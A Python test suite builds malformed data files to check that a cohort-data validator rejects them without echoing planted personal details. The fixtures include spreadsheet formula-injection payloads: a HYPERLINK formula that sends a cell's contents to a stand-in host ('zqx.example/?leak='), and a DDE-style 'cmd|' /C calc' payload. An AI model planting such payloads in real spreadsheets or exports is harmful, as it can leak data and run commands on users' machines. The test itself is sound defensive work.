"""A corpus of malformed input files, one per class of problem the validator knows (issue #12).

Every case builds a cohort from the valid test cohort (conftest.valid_frames) with one thing
broken, plants values that must never be shown (a canary id, a name, a postcode, a date of
birth, a formula, a header cell), runs `tahsb validate` on it with --problems-csv and --output,
and checks that:

* the command exits with status 1;
* the problem table names the expected file, row and column, with the expected problem;
* no planted value appears on stdout, stderr, in the log records or in the problems CSV;
* every column the table names is "", a codebook field name or a position ("column 3"), and
  no text of the problems CSV can start a spreadsheet formula;
* nothing was written under the output folder.
"""

from __future__ import annotations

import csv
import gzip
import io
import logging
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
from conftest import valid_frames, with_cell, write_csv_tables

from tahsb_analysis.cli import EXIT_INVALID_INPUT, main
from tahsb_analysis.input import messages as m
from tahsb_analysis.input.codebook import TABLE_NAMES, load_codebook
from tahsb_analysis.input.identifiers import COLUMN_NAME_PROBLEM
from tahsb_analysis.spreadsheet import FORMULA_PREFIXES

CODEBOOK = load_codebook()
FIELD_NAMES = {name for table in CODEBOOK.tables.values() for name in table.field_names}
CANARY = "ZQXCANARY7"  # matches the case-id pattern: a value that is valid but must not be shown
NAME = "Jayden Kowalski"
POSTCODE = "SW1A 1AA"
FORMULA = '=HYPERLINK("http://zqx.example/?leak="&A2,"open")'
NOT_A_CODE_CELL = "Zebrafish"


@dataclass
class Case:
    """One malformed cohort: how to build it, what must be reported, what must not be shown."""

    build: Callable[[Path], dict[str, Path]]
    file: str
    row: int | None
    column: str
    problem: str  # a part of the problem text
    planted: tuple[str, ...] = ()
    more: dict = field(default_factory=dict)


def frames_with(*cells) -> dict[str, pd.DataFrame]:
    """The valid cohort with cells changed: (table, row as the user sees it, column, value)."""
    frames = valid_frames()
    for table, row, column, value in cells:
        frames = with_cell(frames, table, row, column, value)
    return frames


def cohort(*cells, frames=None) -> Callable[[Path], dict[str, Path]]:
    def build(folder: Path) -> dict[str, Path]:
        return write_csv_tables(folder, frames if frames is not None else frames_with(*cells))
    return build


def edited(table: str, edit: Callable[[str], str], frames=None, encoding: str = "utf-8",
           errors: str = "strict"):
    """The cohort as CSV with one file's text changed by `edit` and written in `encoding`."""
    def build(folder: Path) -> dict[str, Path]:
        paths = write_csv_tables(folder, frames if frames is not None else valid_frames())
        text = paths[table].read_text(encoding="utf-8")
        paths[table].write_bytes(edit(text).encode(encoding, errors=errors))
        return paths
    return build


def replaced(table: str, name: str, content: Callable[[Path], bytes] | bytes):
    """The cohort with one table's file replaced by `name` holding `content`."""
    def build(folder: Path) -> dict[str, Path]:
        paths = write_csv_tables(folder, frames_with(("cases", 2, "case_id", "C001")))
        paths[table].unlink()
        data = content(folder) if callable(content) else content
        target = folder / name
        target.write_bytes(data)
        paths[table] = target
        return paths
    return build


def with_column(table: str, header: str, value: str = "-", position: int | None = None):
    frames = valid_frames()
    frame = frames[table]
    frame.insert(frame.shape[1] if position is None else position, header, value,
                 allow_duplicates=True)
    return cohort(frames=frames)


def no_header(table: str, before: str = "", first_id: str = CANARY):
    """The table's file without its header row; the first child's case id is `first_id`."""
    frames = valid_frames()
    ids = frames[table]["case_id"]
    old = ids.iloc[0]
    for frame in frames.values():
        frame.loc[frame["case_id"] == old, "case_id"] = first_id
    return edited(table, lambda text: before + text.split("\n", 1)[1], frames=frames)


def drop_column(table: str, column: str):
    frames = valid_frames()
    frames[table] = frames[table].drop(columns=[column])
    return cohort(frames=frames)


def cases_csv_bytes(folder: Path) -> bytes:
    frames = frames_with(("cases", 3, "sex", NOT_A_CODE_CELL))
    return frames["cases"].to_csv(index=False).encode()


def xlsx_of(frame: pd.DataFrame, folder: Path, name: str = "book.xlsx") -> bytes:
    frame.to_excel(folder / name, index=False)
    return (folder / name).read_bytes()


def cases_xlsx_bytes(folder: Path) -> bytes:
    return xlsx_of(frames_with(("cases", 3, "case_id", CANARY))["cases"], folder)


def cases_sav_bytes(folder: Path) -> bytes:
    frame = frames_with(("cases", 3, "case_id", CANARY))["cases"]
    pyreadstat.write_sav(frame, str(folder / "data.sav"))
    return (folder / "data.sav").read_bytes()


def xlsx_with_formula(folder: Path) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    frame = valid_frames()["cases"]
    sheet.append(list(frame.columns))
    for record in frame.itertuples(index=False):
        sheet.append(list(record))
    sheet["E3"] = FORMULA  # sex of the second child: a formula, stored without a value
    workbook.save(folder / "formula.xlsx")
    return (folder / "formula.xlsx").read_bytes()


def xlsx_with_a_date(folder: Path) -> bytes:
    import datetime as dt

    frame = valid_frames()["cases"].astype(object)
    frame.loc[2, "assessment_month"] = dt.datetime(2015, 3, 14)  # Excel turned it into a date
    return xlsx_of(frame, folder, "dated.xlsx")


def sav_with_an_identifier_column(folder: Path) -> bytes:
    frame = valid_frames()["cases"].copy()
    frame["surname"] = NAME.split()[1]
    pyreadstat.write_sav(frame, str(folder / "named.sav"))
    return (folder / "named.sav").read_bytes()


def many_rows(count: int, **values) -> pd.DataFrame:
    """`count` valid children outside the in-depth sample, with some cells replaced."""
    frame = pd.DataFrame({
        "case_id": [f"X{i:06d}" for i in range(count)], "cohort": "ttp-2015",
        "data_origin": "synthetic", "assessment_month": "2015-01", "sex": "male",
        "age_at_referral": "14", "learning_disability": "no", "offline_hsb": "yes",
        "ta_hsb": "no", "in_depth_sample": "no"})
    for column, value in values.items():
        frame[column] = value
    return frame


def large(cases: pd.DataFrame):
    frames = valid_frames()
    frames["cases"] = pd.concat([frames["cases"], cases], ignore_index=True)
    return cohort(frames=frames)


def garbage_without_header(rows: int):
    def edit(_text: str) -> str:
        rng = np.random.default_rng(1)
        letters = np.array(list("abcdefghijklmnopqrstuvwxyz0123456789 "))
        cells = rng.choice(letters, size=(rows, 10 * 7)).reshape(rows, 10, 7)
        lines = [",".join("".join(cell) for cell in row) for row in cells]
        lines[0] = ",".join([CANARY, NAME, POSTCODE] + ["q"] * 7)
        return "\n".join(lines) + "\n"
    return edited("cases", edit)


def semicolons(text: str) -> str:
    return text.replace(",", ";")


CASES: dict[str, Case] = {
    # --- the header row ---------------------------------------------------------------------
    "no-header-cases": Case(no_header("cases"), "cases.csv", 1, "",
                            m.HEADER_LOOKS_LIKE_DATA, (CANARY, "ttp-2015", "2015-01")),
    "no-header-case-file": Case(no_header("case_file"), "case_file.csv", 1, "",
                                m.HEADER_LOOKS_LIKE_DATA, (CANARY, "10.5", "section_47")),
    "no-header-behaviours": Case(no_header("behaviours"), "behaviours.csv", 1, "",
                                 m.HEADER_LOOKS_LIKE_DATA, (CANARY, "offline_contact")),
    "no-header-below-blank-lines": Case(no_header("cases", before="\n\n"), "cases.csv", 3, "",
                                        m.HEADER_LOOKS_LIKE_DATA, (CANARY, "ttp-2015")),
    "no-header-id-is-a-name": Case(no_header("cases", first_id="Kowalski"), "cases.csv", 1, "",
                                   m.HEADER_LOOKS_LIKE_DATA, ("Kowalski",)),
    "header-cell-is-a-name": Case(with_column("cases", NAME), "cases.csv", None, "column 11",
                                  m.UNKNOWN_COLUMN, (NAME,)),
    "header-cell-is-a-postcode": Case(with_column("cases", POSTCODE), "cases.csv", None,
                                      "column 11",
                                      COLUMN_NAME_PROBLEM.format(kind="a UK postcode"),
                                      (POSTCODE,)),
    "header-cell-is-a-date-of-birth": Case(with_column("behaviours", "03/04/2009"),
                                           "behaviours.csv", None, "column 7",
                                           "(a full date)", ("03/04/2009",)),
    "header-cell-is-an-email": Case(with_column("case_file", "jayden@example.org"),
                                    "case_file.csv", None, "column 19", "(an e-mail address)",
                                    ("jayden@example.org",)),
    "header-cell-is-a-compact-date-id": Case(with_column("cases", "JK20090403", position=0),
                                             "cases.csv", None, "column 1", "(a full date)",
                                             ("JK20090403", "20090403")),
    "header-formula-hyperlink": Case(with_column("cases", FORMULA), "cases.csv", None,
                                     "column 11", "unknown column", (FORMULA, "zqx.example")),
    "header-formula-plus": Case(with_column("cases", "+cmd|' /C calc'!A"), "cases.csv", None,
                                "column 11", "unknown column", ("cmd|",)),
    "header-formula-at": Case(with_column("case_file", "@SUM(A+B)"), "case_file.csv", None,
                              "column 19", "unknown column", ("@SUM",)),
    "header-formula-minus": Case(with_column("behaviours", "-cmd+calc"), "behaviours.csv", None,
                                 "column 7", "unknown column", ("cmd+calc",)),
    "header-cell-looks-like-data": Case(with_column("cases", "C0999"), "cases.csv", None,
                                        "column 11", m.DATA_LIKE_COLUMN, ("C0999",)),
    "misspelt-column": Case(edited("case_file", lambda t: t.replace("looked_after",
                                                                    "Looked_Aftr", 1)),
                            "case_file.csv", None, "column 3", "unknown column",
                            ("Looked_Aftr",), {"expected": "did you mean looked_after?"}),
    "column-name-surname": Case(with_column("cases", "Surname", NAME.split()[1]), "cases.csv",
                                None, "column 11", "(a name)", ("Surname", "Kowalski")),
    "column-name-date-of-birth": Case(with_column("case_file", "date_of_birth", "2009-04-03"),
                                      "case_file.csv", None, "column 19", "(a date of birth)",
                                      ("date_of_birth", "2009-04-03")),
    "column-name-nhs-number": Case(with_column("cases", "NHS_No", "9434765919"),
                                   "cases.csv", None, "column 11", "(an NHS number)",
                                   ("NHS_No", "9434765919")),
    "column-name-postcode": Case(with_column("behaviours", "home postcode", POSTCODE),
                                 "behaviours.csv", None, "column 7", "(a postcode)",
                                 ("home postcode", POSTCODE)),
    "column-name-email": Case(with_column("cases", "Email", "jk@example.org"), "cases.csv",
                              None, "column 11", "(an e-mail address)",
                              ("Email", "jk@example.org")),
    "column-name-phone": Case(with_column("cases", "mobile", "07700 900123"), "cases.csv", None,
                              "column 11", "(a phone number)", ("mobile", "07700 900123")),
    "column-name-address": Case(with_column("cases", "Address", "1 Acacia Avenue"), "cases.csv",
                                None, "column 11", "(an address)",
                                ("Address", "Acacia Avenue")),
    "duplicated-codebook-column": Case(with_column("behaviours", "setting", "online"),
                                       "behaviours.csv", None, "setting", m.REPEATED_COLUMN),
    "duplicated-unknown-column": Case(
        edited("cases", lambda t: "\n".join(
            [line + (",Kayden,Kayden" if i == 0 else ",-,-") if line else line
             for i, line in enumerate(t.split("\n"))])),
        "cases.csv", None, "column 12", m.REPEATED_COLUMN, ("Kayden",)),
    "missing-column": Case(drop_column("cases", "sex"), "cases.csv", None, "sex",
                           m.MISSING_COLUMN),
    "unnamed-column-with-values": Case(with_column("behaviours", "", CANARY), "behaviours.csv",
                                       None, "column 7", m.UNNAMED_COLUMN, (CANARY,)),
    "header-only": Case(edited("behaviours", lambda t: t.split("\n", 1)[0] + "\n"),
                        "behaviours.csv", None, "", m.NO_DATA_ROWS),
    "empty-file": Case(edited("case_file", lambda t: ""), "case_file.csv", None, "",
                       m.EMPTY_FILE),
    "blank-lines-only": Case(edited("case_file", lambda t: "\n\n  \n,,,\n"), "case_file.csv",
                             None, "", m.EMPTY_FILE),
    "blank-lines-before-header": Case(
        edited("cases", lambda t: "\n\n" + t,
               frames=frames_with(("cases", 4, "sex", NOT_A_CODE_CELL))),
        "cases.csv", 6, "sex", m.NOT_A_CODE, (NOT_A_CODE_CELL,)),
    "crlf-blank-lines-before-header": Case(
        edited("behaviours", lambda t: "\r\n \r\n" + t.replace("\n", "\r\n"),
               frames=frames_with(("behaviours", 3, "aimed_at_other", NOT_A_CODE_CELL))),
        "behaviours.csv", 5, "aimed_at_other", m.NOT_A_CODE, (NOT_A_CODE_CELL,)),
    # --- encodings and byte-order marks --------------------------------------------------------
    "latin-1": Case(edited("cases", lambda t: t.replace("C003", "Zoë", 1), encoding="latin-1"),
                    "cases.csv", None, "", "file is not UTF-8 text", ("Zoë", "Zo")),
    "cp1252-quotes": Case(edited("cases", lambda t: t.replace("C003", "“C003”", 1),
                                 encoding="cp1252"),
                          "cases.csv", None, "", "file is not UTF-8 text", ("“C003”",)),
    "utf-16-with-bom": Case(edited("behaviours", lambda t: t, encoding="utf-16"),
                            "behaviours.csv", None, "", "file is UTF-16 text"),
    "utf-16-le-without-bom": Case(edited("behaviours", lambda t: t, encoding="utf-16-le"),
                                  "behaviours.csv", None, "", "file is UTF-16 text"),
    "utf-16-be-without-bom": Case(edited("cases", lambda t: t, encoding="utf-16-be"),
                                  "cases.csv", None, "", "file is UTF-16 text"),
    "utf-8-bom-and-a-bad-cell": Case(
        edited("cases", lambda t: t, encoding="utf-8-sig",
               frames=frames_with(("cases", 5, "sex", NOT_A_CODE_CELL))),
        "cases.csv", 5, "sex", m.NOT_A_CODE, (NOT_A_CODE_CELL,)),
    # A BOM inside the header (files joined together): the cell is no codebook name.
    "bom-inside-the-header": Case(
        edited("cases", lambda t: t.replace(",sex,", ",\ufeffsex,", 1), encoding="utf-8-sig"),
        "cases.csv", None, "column 5", m.UNKNOWN_COLUMN, ("\ufeff",),
        {"expected": "did you mean sex?"}),
    # --- delimiters and quoting ----------------------------------------------------------------
    "semicolons": Case(edited("cases", semicolons), "cases.csv", None, "column 1",
                       m.UNKNOWN_COLUMN, more={"expected": "needs commas"}),
    "tabs": Case(edited("case_file", lambda t: t.replace(",", "\t")), "case_file.csv", None,
                 "column 1", m.UNKNOWN_COLUMN, more={"expected": "needs commas"}),
    "pipes": Case(edited("behaviours", lambda t: t.replace(",", "|")), "behaviours.csv", None,
                  "column 1", m.UNKNOWN_COLUMN, more={"expected": "needs commas"}),
    "row-with-more-cells": Case(
        edited("cases", lambda t: t.replace("C004,", f"C004,{CANARY},", 1)),
        "cases.csv", 5, "", "row has more cells than the first row", (CANARY,)),
    "row-with-fewer-cells": Case(
        edited("behaviours", lambda t: t.replace("C002,1,sexual_texts,online,14.5,yes",
                                                 "C002,1,sexual_texts", 1)),
        "behaviours.csv", 5, "age_at_onset", m.BLANK_CELL),
    "unclosed-quote": Case(edited("cases", lambda t: t.replace("C005,", f'"C005 {NAME},', 1)),
                           "cases.csv", None, "", "quoted cell left open", (NAME,)),
    "line-break-inside-quotes": Case(
        cohort(("cases", 4, "sex", f"male\n{NAME}")), "cases.csv", 4, "sex", m.NOT_A_CODE,
        (NAME,)),
    # --- binary files and renamed formats ------------------------------------------------------
    "binary-nul-bytes": Case(replaced("cases", "cases.csv",
                                      b"case_id,sex\n" + bytes(range(256)) * 4),
                             "cases.csv", None, "", "file holds binary data"),
    "png-named-csv": Case(replaced("case_file", "case_file.csv",
                                   b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
                          "case_file.csv", None, "", "file holds binary data"),
    "gzip-named-csv": Case(replaced("behaviours", "behaviours.csv",
                                    lambda folder: gzip.compress(
                                        valid_frames()["behaviours"].to_csv().encode(),
                                        mtime=0)),
                           "behaviours.csv", None, "", "file holds binary data"),
    "xlsx-named-csv": Case(replaced("cases", "cases.csv", cases_xlsx_bytes), "cases.csv",
                           None, "", "file is an Excel workbook", (CANARY,)),
    "sav-named-csv": Case(replaced("cases", "cases.csv", cases_sav_bytes), "cases.csv", None,
                          "", "file is an SPSS data file", (CANARY,)),
    "xls-named-csv": Case(replaced("cases", "cases.csv",
                                   b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
                          "cases.csv", None, "", "old Excel .xls workbook"),
    "csv-named-xlsx": Case(replaced("cases", "cases.xlsx", cases_csv_bytes), "cases.xlsx",
                           None, "", "file is text (perhaps CSV), not an Excel workbook",
                           (NOT_A_CODE_CELL,)),
    "csv-named-sav": Case(replaced("cases", "cases.sav", cases_csv_bytes), "cases.sav", None,
                          "", "file is text (perhaps CSV), not an SPSS file",
                          (NOT_A_CODE_CELL,)),
    "xlsx-named-sav": Case(replaced("cases", "cases.sav", cases_xlsx_bytes), "cases.sav", None,
                           "", "file is an Excel workbook", (CANARY,)),
    "sav-named-xlsx": Case(replaced("cases", "cases.xlsx", cases_sav_bytes), "cases.xlsx",
                           None, "", "file is an SPSS data file", (CANARY,)),
    "xls-named-xlsx": Case(replaced("cases", "cases.xlsx",
                                    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
                           "cases.xlsx", None, "", "old Excel .xls workbook"),
    "damaged-xlsx": Case(replaced("cases", "cases.xlsx",
                                  lambda folder: cases_xlsx_bytes(folder)[:700]),
                         "cases.xlsx", None, "", "could not be read as an Excel workbook",
                         (CANARY,)),
    "unsupported-suffix": Case(replaced("cases", "cases.json", b'{"case_id": "ZQXCANARY7"}'),
                               "cases.json", None, "", "file type is not supported", (CANARY,)),
    # --- formulas in cells ----------------------------------------------------------------------
    "formula-in-a-code-cell": Case(cohort(("cases", 3, "sex", FORMULA)), "cases.csv", 3, "sex",
                                   m.NOT_A_CODE, (FORMULA, "zqx.example")),
    "formula-plus-in-case-id": Case(cohort(("behaviours", 4, "behaviour_seq", "+1+2")),
                                    "behaviours.csv", 4, "behaviour_seq", m.NOT_AN_INTEGER,
                                    ("+1+2",)),
    "formula-at-in-cohort": Case(cohort(("cases", 2, "cohort", "@SUM(A1:A9)")), "cases.csv", 2,
                                 "cohort", m.PATTERN_MISMATCH, ("@SUM(A1:A9)",)),
    "formula-minus-in-age": Case(cohort(("case_file", 3, "age_first_hsb", "-2+3+cmd")),
                                 "case_file.csv", 3, "age_first_hsb", m.NOT_A_NUMBER,
                                 ("-2+3+cmd",)),
    "formula-in-an-xlsx-cell": Case(replaced("cases", "cases.xlsx", xlsx_with_formula),
                                    "cases.xlsx", 3, "sex", m.BLANK_CELL,
                                    (FORMULA, "zqx.example")),
    # --- identifiers in values ------------------------------------------------------------------
    "postcode-in-a-code-cell": Case(cohort(("behaviours", 5, "setting", POSTCODE)),
                                    "behaviours.csv", 5, "setting", "a UK postcode",
                                    (POSTCODE,)),
    "nhs-number-as-case-id": Case(cohort(("cases", 6, "case_id", "9434765919")), "cases.csv",
                                  6, "case_id", "an NHS number", ("9434765919",)),
    "email-in-cohort": Case(cohort(("cases", 7, "cohort", "jayden@example.org")), "cases.csv",
                            7, "cohort", "an e-mail address", ("jayden@example.org",)),
    "phone-in-sex": Case(cohort(("cases", 3, "sex", "07700 900123")), "cases.csv", 3, "sex",
                         "a UK phone number", ("07700 900123",)),
    "full-date-in-month": Case(cohort(("cases", 4, "assessment_month", "2015-03-14")),
                               "cases.csv", 4, "assessment_month", "a full date",
                               ("2015-03-14",)),
    "compact-date-in-id": Case(cohort(("cases", 5, "case_id", "JK20090403")), "cases.csv", 5,
                               "case_id", "a full date", ("JK20090403", "20090403")),
    "compact-ddmmyyyy-in-id": Case(cohort(("cases", 5, "case_id", "03042009")), "cases.csv", 5,
                                   "case_id", "a full date", ("03042009",)),
    "free-text-in-a-code-cell": Case(
        cohort(("case_file", 4, "family_stability", "lives with nan since dad left")),
        "case_file.csv", 4, "family_stability", "free text", ("lives with nan",)),
    "name-in-case-id": Case(cohort(("cases", 2, "case_id", NAME)), "cases.csv", 2, "case_id",
                            m.PATTERN_MISMATCH, (NAME,)),
    "excel-date-in-month": Case(replaced("cases", "cases.xlsx", xlsx_with_a_date),
                                "cases.xlsx", 4, "assessment_month", "a full date",
                                ("2015-03-14",)),
    "spss-identifier-column": Case(replaced("cases", "cases.sav", sav_with_an_identifier_column),
                                   "cases.sav", None, "column 11", "(a name)", ("Kowalski",)),
    # --- codes, numbers and keys ------------------------------------------------------------------
    "invalid-code": Case(cohort(("case_file", 2, "family_stability", NOT_A_CODE_CELL)),
                         "case_file.csv", 2, "family_stability", m.NOT_A_CODE,
                         (NOT_A_CODE_CELL,)),
    "code-in-wrong-case": Case(cohort(("cases", 2, "learning_disability", "No")), "cases.csv",
                               2, "learning_disability", m.CODE_CASE),
    "not-an-integer": Case(cohort(("cases", 6, "age_at_referral", "fourteen")), "cases.csv", 6,
                           "age_at_referral", m.NOT_AN_INTEGER, ("fourteen",)),
    "out-of-range": Case(cohort(("cases", 6, "age_at_referral", "77")), "cases.csv", 6,
                         "age_at_referral", m.ABOVE_MAXIMUM),
    "bad-month": Case(cohort(("cases", 7, "assessment_month", "03/2015")), "cases.csv", 7,
                      "assessment_month", m.NOT_A_YEARMONTH, ("03/2015",)),
    "missing-code-not-allowed": Case(cohort(("cases", 3, "sex", "-8")), "cases.csv", 3, "sex",
                                     m.MISSING_CODE_NOT_ALLOWED),
    "blank-cell": Case(cohort(("behaviours", 2, "aimed_at_other", "  ")), "behaviours.csv", 2,
                       "aimed_at_other", m.BLANK_CELL),
    "duplicate-case-id": Case(cohort(("cases", 6, "case_id", "C004")), "cases.csv", 6,
                              "case_id", "duplicate of row 5"),
    "duplicate-behaviour": Case(cohort(("behaviours", 4, "behaviour_seq", "02")),
                                "behaviours.csv", 4, "", "duplicate of row 3"),
    "constant-column-differs": Case(cohort(("cases", 5, "data_origin", "real")), "cases.csv", 5,
                                    "data_origin", "column must hold the same value"),
    "unknown-child": Case(cohort(("behaviours", 8, "case_id", CANARY)), "behaviours.csv", 8,
                          "case_id", m.UNKNOWN_CHILD, (CANARY,)),
    # --- size: bounded output, early stop --------------------------------------------------------
    "bad-code-on-50000-rows": Case(large(many_rows(50_000, sex=NOT_A_CODE_CELL)), "cases.csv",
                                   11, "sex", "and 49997 more rows with this problem",
                                   (NOT_A_CODE_CELL,), {"max_problems": 10}),
    "garbage-50000-rows-no-header": Case(garbage_without_header(50_000), "cases.csv", None, "",
                                         "file was read only to row 1000",
                                         (CANARY, NAME, POSTCODE), {"max_problems": 60}),
    "garbage-50000-rows-below-a-header": Case(
        large(many_rows(50_000, **{c: f"{CANARY}?" for c in ("sex", "cohort", "case_id",
                                                              "ta_hsb", "in_depth_sample",
                                                              "offline_hsb")})),
        "cases.csv", None, "", "file was read only to row 1000", (CANARY,),
        {"max_problems": 60}),
}


def test_the_corpus_has_at_least_sixty_classes():
    assert len(CASES) >= 60


def run_case(case: Case, tmp_path: Path, capsys, caplog):
    paths = case.build(tmp_path / "input")
    output = tmp_path / "results"
    problems_csv = tmp_path / "problems.csv"
    arguments = ["validate", "--output", str(output), "--problems-csv", str(problems_csv)]
    for table in TABLE_NAMES:
        arguments += [f"--{table.replace('_', '-')}", str(paths[table])]
    with caplog.at_level(logging.DEBUG):
        status = main(arguments)
    captured = capsys.readouterr()
    return status, captured, problems_csv, output


@pytest.mark.parametrize("name", list(CASES))
def test_malformed_input_is_refused_naming_where_and_showing_nothing(name, tmp_path, capsys,
                                                                     caplog):
    case = CASES[name]
    status, captured, problems_csv, output = run_case(case, tmp_path, capsys, caplog)
    assert status == EXIT_INVALID_INPUT, captured.out + captured.err
    assert captured.err.splitlines()[0].endswith("found in the input; nothing was written.")
    assert not output.exists(), "nothing may be written under the output folder"

    problems = pd.read_csv(problems_csv, dtype=str, keep_default_na=False)
    assert list(problems.columns) == ["file", "row", "column", "problem", "expected"]
    rows = "" if case.row is None else str(case.row)
    found = problems[(problems["file"] == case.file) & (problems["row"] == rows)
                     & (problems["column"] == case.column)
                     & problems["problem"].str.contains(case.problem, regex=False)]
    assert len(found) >= 1, problems.to_string()
    if "expected" in case.more:
        assert case.more["expected"] in found["expected"].iloc[0]
    assert len(problems) <= case.more.get("max_problems", 40), len(problems)

    outputs = captured.out + captured.err + caplog.text + problems_csv.read_text(encoding="utf-8")
    for planted in case.planted:
        assert planted not in outputs, f"{planted!r} was shown"
    for column in problems["column"]:
        assert column == "" or column in FIELD_NAMES or re.fullmatch(r"column \d+", column), (
            column)
    cells = [cell for record in csv.reader(io.StringIO(problems_csv.read_text("utf-8")))
             for cell in record]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert len(captured.err) < 20_000  # a small table, however large the input
